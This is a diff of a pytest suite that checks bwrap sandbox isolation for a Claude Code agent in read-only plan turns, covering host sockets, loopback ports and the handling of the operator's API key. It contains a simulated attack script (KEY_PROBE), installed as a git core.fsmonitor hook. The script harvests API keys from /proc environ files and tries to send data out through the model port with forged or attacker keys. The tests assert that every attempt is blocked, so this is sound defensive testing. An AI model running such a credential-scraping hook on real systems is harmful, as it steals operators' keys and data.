@@ -14,6 +14,7 @@ import json
 import secrets
 import shutil
 import socket
+import subprocess
 import sys
 import tempfile
 import threading
@@ -52,6 +53,17 @@ def http_answer(host, port, head):
     except OSError as exc:
         return "refused: " + type(exc).__name__
 
+def fs_socket(path):
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect(path)
+        return s.recv(100).decode("latin-1")
+    except OSError as exc:
+        return "refused: " + type(exc).__name__
+    finally:
+        s.close()
+
 def abstract(name):
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     s.settimeout(5)
@@ -69,6 +81,7 @@ mcp_url = urllib.parse.urlsplit(mcp["url"])
 model_url = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])
 seen = {{
     "abstract": abstract(targets["abstract"]),
+    "fs_socket": fs_socket(targets["fs_socket"]),
     "host_port": http_answer("127.0.0.1", targets["port"], b"GET / HTTP/1.0\\r\\n\\r\\n"),
     "model": http_answer(model_url.hostname, model_url.port,
                          b"GET /v1/models HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n"),
@@ -86,19 +99,28 @@ HOST_SECRET = b"HOST-ONLY-SERVICE\n"
 
 class _HostServices:
     """What a desktop host has that a read-only turn must not reach: a service on an abstract
-    Unix socket (as D-Bus and X11 use) and one on a loopback TCP port, both answering at once."""
+    Unix socket (as D-Bus and X11 use), one on a Unix socket file in a folder the sandbox sees
+    (as an IDE, an agent or a database leaves in /var/tmp or a project folder) and one on a
+    loopback TCP port, all answering at once."""
 
     def __init__(self) -> None:
         self.abstract_name = f"cc-test-{secrets.token_hex(8)}"
         self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         self.unix.bind("\0" + self.abstract_name)
         self.unix.listen(8)
+        # Not under /tmp, /run or the workspace (hidden inside): a place the sandbox shows read-only.
+        self.folder = Path(tempfile.mkdtemp(prefix="cc-sock-", dir="/var/tmp"))
+        self.fs_path = self.folder / "service.sock"
+        self.fs = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.fs.bind(str(self.fs_path))
+        self.fs.listen(8)
         self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         self.tcp.bind(("127.0.0.1", 0))
         self.tcp.listen(8)
         self.port = self.tcp.getsockname()[1]
         self._threads = [
-            threading.Thread(target=self._serve, args=(s,), daemon=True) for s in (self.unix, self.tcp)
+            threading.Thread(target=self._serve, args=(s,), daemon=True)
+            for s in (self.unix, self.fs, self.tcp)
         ]
         for t in self._threads:
             t.start()
@@ -114,11 +136,15 @@ class _HostServices:
                 conn.sendall(HOST_SECRET)
 
     def close(self) -> None:
-        for s in (self.unix, self.tcp):
+        for s in (self.unix, self.fs, self.tcp):
             s.shutdown(socket.SHUT_RDWR)
             s.close()
         for t in self._threads:
             t.join(5)
+        shutil.rmtree(self.folder, ignore_errors=True)
+
+    def targets(self) -> str:
+        return json.dumps({"abstract": self.abstract_name, "fs_socket": str(self.fs_path), "port": self.port})
 
 
 @pytest.fixture
@@ -127,6 +153,10 @@ def host_services() -> Iterator[_HostServices]:
     # The fixture's own check: outside the sandbox both really answer (so "refused" means something).
     probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     probe.connect("\0" + services.abstract_name)
+    assert probe.recv(100) == HOST_SECRET
+    probe.close()
+    probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    probe.connect(str(services.fs_path))
     assert probe.recv(100) == HOST_SECRET
     probe.close()
     with socket.create_connection(("127.0.0.1", services.port)) as conn:
@@ -151,13 +181,11 @@ def _probe_cli(folder: Path) -> Path:
 
 
 @needs_bwrap
-def test_a_read_only_turn_reaches_neither_abstract_sockets_nor_loopback_ports_of_the_host(
+def test_a_read_only_turn_reaches_no_unix_socket_and_no_loopback_port_of_the_host(
     ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, host_services: _HostServices
 ) -> None:
     monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-test", "env"))
-    monkeypatch.setenv(
-        "NET_PROBE_TARGETS", json.dumps({"abstract": host_services.abstract_name, "port": host_services.port})
-    )
+    monkeypatch.setenv("NET_PROBE_TARGETS", host_services.targets())
     cli = _probe_cli(ws.root.parent / "net-probe-bin")
     space = ws.create_space("netbox", mode=Mode.PLAN, autonomy=Autonomy.YOLO)
     with LoopbackMessagesServer([]) as server:
@@ -171,6 +199,8 @@ def test_a_read_only_turn_reaches_neither_abstract_sockets_nor_loopback_ports_of
     # Nothing else of the host does.
     assert HOST_SECRET.decode() not in seen["abstract"], seen
     assert seen["abstract"].startswith("refused"), seen
+    assert HOST_SECRET.decode() not in seen["fs_socket"], seen
+    assert seen["fs_socket"].startswith("refused"), seen
     assert HOST_SECRET.decode() not in seen["host_port"], seen
     assert seen["host_port"].startswith("refused"), seen
 
@@ -181,9 +211,7 @@ def test_chat_mode_is_unchanged_and_keeps_the_hosts_network(
     """Agent mode runs outside the OS layer (as before): the same probe reaches the host's
     services, which is what makes the read-only test above able to fail."""
     monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-test", "env"))
-    monkeypatch.setenv(
-        "NET_PROBE_TARGETS", json.dumps({"abstract": host_services.abstract_name, "port": host_services.port})
-    )
+    monkeypatch.setenv("NET_PROBE_TARGETS", host_services.targets())
     cli = _probe_cli(tmp_path / "net-probe-bin")
     space = ws.create_space("netchat", mode=Mode.CHAT)
     with LoopbackMessagesServer([]) as server:
@@ -191,6 +219,7 @@ def test_chat_mode_is_unchanged_and_keeps_the_hosts_network(
     assert ended.status is TurnStatus.COMPLETED, ended.error
     seen = json.loads((ws.root / "claude-homes" / space.id / "net-probe.json").read_text())
     assert seen["abstract"] == HOST_SECRET.decode()
+    assert seen["fs_socket"] == HOST_SECRET.decode()
     assert seen["host_port"] == HOST_SECRET.decode()
     assert seen["model"].startswith("HTTP/")
     assert seen["mcp"].startswith("HTTP/1.1 401")
@@ -297,15 +326,15 @@ class _TlsFront:
 
 @needs_real_cli
 @needs_bwrap
-def test_real_cli_reaches_an_https_endpoint_through_the_proxy_and_nothing_else(
+def test_real_cli_reaches_an_https_endpoint_through_the_hosts_gateway(
     ws: Workspace, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
 ) -> None:
-    """The production shape (https://api.anthropic.com): from its own namespace Claude reaches
-    the endpoint only through the host's CONNECT proxy, with TLS checked end to end."""
+    """The production shape (https://api.anthropic.com): from its own namespace Claude speaks to
+    the host's gateway, which holds the key and the TLS to the endpoint (checked against the
+    authority the operator gave Claude Code, ``NODE_EXTRA_CA_CERTS``)."""
     monkeypatch.setattr(claude_code, "resolve_api_key", lambda: ("sk-loopback", "env"))
     for name in PROXY_VARS:  # the host goes to the endpoint directly here
         monkeypatch.delenv(name, raising=False)
-    # 127.0.0.2: a loopback address that is not in NO_PROXY, so Claude must use the proxy.
     ip = "127.0.0.2"
     # Outside /tmp (private inside the sandbox), where Claude can read the authority.
     folder = Path(tempfile.mkdtemp(prefix="cc-tls-", dir="/var/tmp"))
@@ -329,11 +358,12 @@ def test_real_cli_reaches_an_https_endpoint_through_the_proxy_and_nothing_else(
     assert ended.status is TurnStatus.COMPLETED, ended.error
     assert front.connections >= 1
     assert len(requests) >= 2
+    assert all(r.api_key == "sk-loopback" for r in requests)  # set by the host, never inside
     plans = ws.store.approvals(kind=ApprovalKind.PLAN, space_id=space.id)
     assert len(plans) == 1
 
 
-# -- the host's side alone: what the proxy lets through -------------------------------------------
+# -- the host's side alone: the MCP forward and what Claude is told ------------------------------
 
 
 async def _echo_server() -> tuple[asyncio.AbstractServer, int]:
@@ -346,9 +376,9 @@ async def _echo_server() -> tuple[asyncio.AbstractServer, int]:
     return server, server.sockets[0].getsockname()[1]
 
 
-async def _through(sock: Path, head: bytes, payload: bytes = b"") -> bytes:
+async def _through(sock: Path, payload: bytes) -> bytes:
     reader, writer = await asyncio.open_unix_connection(str(sock))
-    writer.write(head + payload)
+    writer.write(payload)
     await writer.drain()
     try:
         return await asyncio.wait_for(reader.read(-1), 10)
@@ -356,43 +386,37 @@ async def _through(sock: Path, head: bytes, payload: bytes = b"") -> bytes:
         writer.close()
 
 
-def test_the_proxy_opens_tunnels_to_the_endpoint_and_the_mcp_server_and_refuses_the_rest() -> None:
+def test_the_mcp_socket_forwards_to_the_turns_server_and_the_model_socket_is_no_tunnel() -> None:
     async def scenario() -> dict[str, bytes]:
         endpoint, endpoint_port = await _echo_server()
         mcp, mcp_port = await _echo_server()
-        other, other_port = await _echo_server()
         try:
-            async with EgressGate(f"https://127.0.0.1:{endpoint_port}", mcp_port) as gate:
-                model_sock = gate.routes[0].socket
+            async with EgressGate(f"https://127.0.0.1:{endpoint_port}", mcp_port, "sk-real") as gate:
+                model_sock, mcp_sock = (r.socket for r in gate.routes)
                 ask = "CONNECT {} HTTP/1.1\r\nHost: x\r\n\r\n".format
                 return {
-                    "endpoint": await _through(model_sock, ask(f"127.0.0.1:{endpoint_port}").encode(), b"hi"),
-                    "mcp": await _through(model_sock, ask(f"127.0.0.1:{MCP_PORT}").encode(), b"hi"),
-                    "other": await _through(model_sock, ask(f"127.0.0.1:{other_port}").encode(), b"hi"),
-                    "mcp_port_itself": await _through(model_sock, ask(f"127.0.0.1:{mcp_port}").encode()),
-                    "plain_get": await _through(
-                        model_sock, f"GET http://127.0.0.1:{other_port}/ HTTP/1.1\r\n\r\n".encode()
+                    "mcp_sock": await _through(mcp_sock, b"hi"),
+                    "connect_endpoint": await _through(
+                        model_sock, ask(f"127.0.0.1:{endpoint_port}").encode()
                     ),
-                    "mcp_sock": await _through(gate.routes[1].socket, b"hi"),
+                    "connect_mcp": await _through(model_sock, ask(f"127.0.0.1:{MCP_PORT}").encode()),
                 }
         finally:
-            for server in (endpoint, mcp, other):
+            for server in (endpoint, mcp):
                 server.close()
 
     seen = asyncio.run(scenario())
-    assert seen["endpoint"] == b"HTTP/1.1 200 Connection established\r\n\r\nECHO:hi"
-    assert seen["mcp"] == b"HTTP/1.1 200 Connection established\r\n\r\nECHO:hi"
-    for refused in ("other", "mcp_port_itself", "plain_get"):
-        assert seen[refused].startswith(b"HTTP/1.1 403"), (refused, seen[refused])
-        assert b"ECHO" not in seen[refused]
     assert seen["mcp_sock"] == b"ECHO:hi"
+    for name in ("connect_endpoint", "connect_mcp"):
+        assert seen[name].startswith(b"HTTP/1.1 403"), (name, seen[name])
+        assert b"ECHO" not in seen[name]
 
 
 def test_the_gate_tells_claude_where_things_are_inside_and_drops_the_operators_proxies() -> None:
     async def scenario() -> tuple[dict[str, str], dict[str, str], Path]:
-        async with EgressGate("http://127.0.0.1:8123/prefix", 9) as plain:
+        async with EgressGate("http://127.0.0.1:8123/prefix/", 9, "sk-real") as plain:
             plain_env = plain.env()
-        async with EgressGate(None, 9) as tls:
+        async with EgressGate(None, 9, "sk-real") as tls:
             tls_env = tls.env()
             folder = tls.folder
         assert folder is not None
@@ -400,48 +424,167 @@ def test_the_gate_tells_claude_where_things_are_inside_and_drops_the_operators_p
 
     plain, tls, folder = asyncio.run(scenario())
     assert plain["ANTHROPIC_BASE_URL"] == f"http://127.0.0.1:{MODEL_PORT}/prefix"
-    assert plain["HTTPS_PROXY"] == plain["HTTP_PROXY"] == plain["ALL_PROXY"] == ""
-    assert tls["ANTHROPIC_BASE_URL"] == "https://api.anthropic.com"
-    assert tls["HTTPS_PROXY"] == f"http://127.0.0.1:{MODEL_PORT}"
+    # An https endpoint too: Claude speaks plain HTTP to the host's gateway, which holds the TLS.
+    assert tls["ANTHROPIC_BASE_URL"] == f"http://127.0.0.1:{MODEL_PORT}"
+    for env in (plain, tls):
+        assert all(env[name] == "" for name in PROXY_VARS)
+        assert env["ANTHROPIC_API_KEY"].startswith("sk-ant-sandbox-")
+    assert plain["ANTHROPIC_API_KEY"] != tls["ANTHROPIC_API_KEY"]  # one per turn
     assert not folder.exists()  # the sockets go with the turn
 
 
-def test_the_host_reaches_an_https_endpoint_through_its_own_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
-    """An operator behind a corporate proxy: the host side of the tunnel goes through it (with
-    its credentials), and Claude inside never sees that proxy's address."""
-    seen: list[bytes] = []
+# -- the operator's key stays on the host; the model port is not a way out -----------------------
 
-    async def corporate(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        head = await reader.readuntil(b"\r\n\r\n")
-        seen.append(head)
-        host, port = head.split(b" ")[1].decode().rsplit(":", 1)
-        up_reader, up_writer = await asyncio.open_connection(host, int(port))
-        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
-        up_writer.write(await reader.read(100))
-        writer.write(await up_reader.read(100))
-        await writer.drain()
-        for w in (writer, up_writer):
-            w.close()
+KEY_PROBE = """import glob, json, os, socket, urllib.parse
+# A program git runs on `git status` (core.fsmonitor) in a plan space: it looks for the operator's
+# key everywhere inside, then tries the model port as a way out (other paths, other keys).
+report = {"texts": [], "keys": [], "base_urls": [], "attempts": {}}
+sources = [("self", "\\0".join(f"{k}={v}" for k, v in os.environ.items()))]
+for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        with open(name, "rb") as f:
+            sources.append((name, f.read().decode("utf-8", "replace")))
+    except OSError:
+        pass
+for name, text in sources:
+    report["texts"].append(text)
+    for item in text.split("\\0"):
+        key, _, value = item.partition("=")
+        if key == "ANTHROPIC_API_KEY" and value:
+            report["keys"].append(value)
+        if key == "ANTHROPIC_BASE_URL" and value:
+            report["base_urls"].append(value)
 
-    async def scenario() -> tuple[bytes, dict[str, str]]:
-        endpoint, endpoint_port = await _echo_server()
-        proxy = await asyncio.start_server(corporate, "127.0.0.1", 0)
-        proxy_port = proxy.sockets[0].getsockname()[1]
-        monkeypatch.setenv("HTTPS_PROXY", f"http://alice:s%40cret@127.0.0.1:{proxy_port}")
-        monkeypatch.setenv("https_proxy", f"http://alice:s%40cret@127.0.0.1:{proxy_port}")
-        monkeypatch.delenv("NO_PROXY", raising=False)
-        monkeypatch.delenv("no_proxy", raising=False)
-        try:
-            async with EgressGate(f"https://127.0.0.1:{endpoint_port}", 9) as gate:
-                head = f"CONNECT 127.0.0.1:{endpoint_port} HTTP/1.1\r\n\r\n".encode()
-                return await _through(gate.routes[0].socket, head, b"hi"), gate.env()
-        finally:
-            for server in (endpoint, proxy):
-                server.close()
+def ask(method, path, headers, body=b"{}"):
+    url = urllib.parse.urlsplit(report["base_urls"][0])
+    head = f"{method} {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(body)}\\r\\n"
+    head += "Connection: close\\r\\n"
+    head += "".join(f"{k}: {v}\\r\\n" for k, v in headers.items())
+    try:
+        with socket.create_connection((url.hostname, url.port), timeout=10) as s:
+            s.sendall(head.encode() + b"\\r\\n" + body)
+            data = b""
+            while chunk := s.recv(65536):
+                data += chunk
+        return data.decode("latin-1")
+    except OSError as exc:
+        return "refused: " + type(exc).__name__
 
-    answer, env = asyncio.run(scenario())
-    assert answer == b"HTTP/1.1 200 Connection established\r\n\r\nECHO:hi"
-    assert len(seen) == 1
-    assert seen[0].startswith(b"CONNECT 127.0.0.1:")
-    assert b"Proxy-Authorization: Basic YWxpY2U6c0BjcmV0" in seen[0]  # alice:s@cret
-    assert env["HTTPS_PROXY"] == env["https_proxy"] == f"http://127.0.0.1:{MODEL_PORT}"
+if report["base_urls"]:
+    prefix = urllib.parse.urlsplit(report["base_urls"][0]).path.rstrip("/")
+    found = report["keys"][0] if report["keys"] else ""
+    report["attempts"] = {
+        # Another account's key to another API of the same host (the Files API keeps what it gets).
+        "files_other_key": ask("POST", prefix + "/v1/files", {"x-api-key": "sk-ant-attacker-0000"}),
+        "files_other_key_bearer": ask("POST", "/v1/files", {"authorization": "Bearer sk-ant-attacker-0000"}),
+        # The Messages API itself with a key that is not the turn's.
+        "messages_forged_key": ask("POST", prefix + "/v1/messages", {"x-api-key": "sk-forged"}),
+        "messages_no_key": ask("POST", prefix + "/v1/messages", {}),
+        # The key found inside, on paths Claude does not use.
+        "files_found_key": ask("POST", prefix + "/v1/files", {"x-api-key": found}),
+        "models_found_key": ask("GET", prefix + "/v1/models", {"x-api-key": found}),
+        "traversal_found_key": ask("POST", prefix + "/v1/messages/../files", {"x-api-key": found}),
+        "absolute_found_key": ask("POST", "http://example.com/v1/messages", {"x-api-key": found}),
+    }
+with open(os.path.join(os.environ["HOME"], "key-probe.json"), "w") as f:
+    json.dump(report, f)
+"""
+
+
+def _key_probe(folder: Path) -> Path:
+    probe = folder / "probe.py"
+    probe.write_text(KEY_PROBE)
+    return probe
+
+
+@needs_real_cli
+@needs_bwrap
+def test_real_cli_a_command_in_a_plan_space_finds_no_key_and_the_model_port_leads_nowhere_else(
+    ws: Workspace, repo: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
+) -> None:
+    """The attack: a program git runs inside a plan space reads Claude's environment (its own,
+    /proc/*/environ) and sends the repository through the model port to another API of the same
+    host under another account's key. Only the host holds the operator's key; inside there is a
+    per-turn stand-in, and the port answers the Messages API alone, for that stand-in alone."""
+    real_key = f"sk-ant-real-{secrets.token_hex(12)}"
+    monkeypatch.setattr(claude_code, "resolve_api_key", lambda: (real_key, "env"))
+    folder = Path(tempfile.mkdtemp(prefix="cc-keyprobe-", dir="/var/tmp"))
+    request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
+    probe = _key_probe(folder)
+    subprocess.run(
+        ["git", "-C", str(repo), "config", "core.fsmonitor", f"{sys.executable} {probe}; false"], check=True
+    )
+    space = ws.create_space("keyprobe", mode=Mode.PLAN, autonomy=Autonomy.YOLO)
+    replies = [
+        [{"type": "tool_use", "name": "Bash", "input": {"command": "git status", "description": "look"}}],
+        [{"type": "tool_use", "name": "mcp__control_center__submit_plan", "input": PLAN_INPUT}],
+        [{"type": "text", "text": "Submitted."}],
+    ]
+    with LoopbackMessagesServer(replies) as server:
+        ended, _events = _run(
+            ws, AppSettings(claude_cli=str(REAL_CLI), base_url=server.base_url + "/gw"), space.id
+        )
+        seen = list(server.seen)
+    assert ended.status is TurnStatus.COMPLETED, ended.error
+    assert len(ws.store.approvals(kind=ApprovalKind.PLAN, space_id=space.id)) == 1
+    report: dict[str, Any] = json.loads((ws.root / "claude-homes" / space.id / "key-probe.json").read_text())
+    # The probe really read Claude's environment (it found a key and the endpoint) ...
+    assert report["keys"], report
+    assert report["base_urls"], report
+    # ... and the operator's key is nowhere inside: not in any environment, not on any command line.
+    assert all(real_key not in text for text in report["texts"])
+    assert real_key not in json.dumps(report)
+    attempts = report["attempts"]
+    for name in ("files_other_key", "files_other_key_bearer", "files_found_key", "models_found_key"):
+        assert attempts[name].startswith("HTTP/1.1 403"), (name, attempts[name])
+    for name in ("traversal_found_key", "absolute_found_key"):
+        assert attempts[name].startswith("HTTP/1.1 403"), (name, attempts[name])
+    for name in ("messages_forged_key", "messages_no_key"):
+        assert attempts[name].startswith("HTTP/1.1 401"), (name, attempts[name])
+    # None of it reached the endpoint: it saw Claude's own Messages requests, with the real key.
+    assert len(seen) >= 3, seen
+    for method, path, key in seen:
+        assert (method, path.split("?")[0], key) == ("POST", "/gw/v1/messages", real_key), seen
+
+
+def test_the_sandbox_covers_the_hosts_socket_files_it_would_show_and_only_those(
+    tmp_path: Path, request: pytest.FixtureRequest
+) -> None:
+    """Which sockets of ``/proc/net/unix`` get an empty file over them: those a bind would show
+    inside; not the ones under a hidden folder or /tmp (already gone), not the turn's own
+    forwarding sockets, not abstract ones, not a path that is no longer a socket."""
+    visible = Path(tempfile.mkdtemp(prefix="cc-sock-", dir="/var/tmp"))
+    request.addfinalizer(lambda: shutil.rmtree(visible, ignore_errors=True))
+    own = visible / "cc-net-own"
+    own.mkdir()
+    (visible / "to-tmp").symlink_to(tmp_path)  # a folder that is a link into a hidden place
+    for path in (visible / "ide.sock", own / "model.sock", tmp_path / "x11.sock"):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.bind(str(path))
+        request.addfinalizer(s.close)
+    (visible / "was-a-socket").write_text("")
+    table = tmp_path / "unix"
+    rows = [
+        visible / "ide.sock",
+        own / "model.sock",
+        tmp_path / "x11.sock",
+        visible / "to-tmp" / "x11.sock",
+        visible / "was-a-socket",
+        visible / "gone.sock",
+    ]
+    table.write_text(
+        "Num       RefCount Protocol Flags    Type St Inode Path\n"
+        + "".join(
+            f"0000000000000000: 00000002 00000000 00010000 0001 01 {i} {p}\n" for i, p in enumerate(rows)
+        )
+        + "0000000000000000: 00000002 00000000 00010000 0001 01 99 @/abstract/name\n"
+    )
+    mounts = [("--ro-bind", "/", "/"), ("--tmpfs", "", "/tmp"), ("--ro-bind", str(own), str(own))]
+    found = sandbox.visible_host_sockets(mounts, own, table=str(table))
+    assert found == [(visible / "ide.sock").resolve()]
+    # And the argv puts the cover last, over every bind that would show it.
+    box = sandbox.ClaudeSandbox(visible, tmp_path)
+    argv = box.argv(["claude"], "bwrap")
+    mask = ["--ro-bind", "/dev/null", str((visible / "ide.sock").resolve())]
+    at = next(i for i in range(len(argv)) if argv[i : i + 3] == mask)
+    assert at > argv.index("--bind")
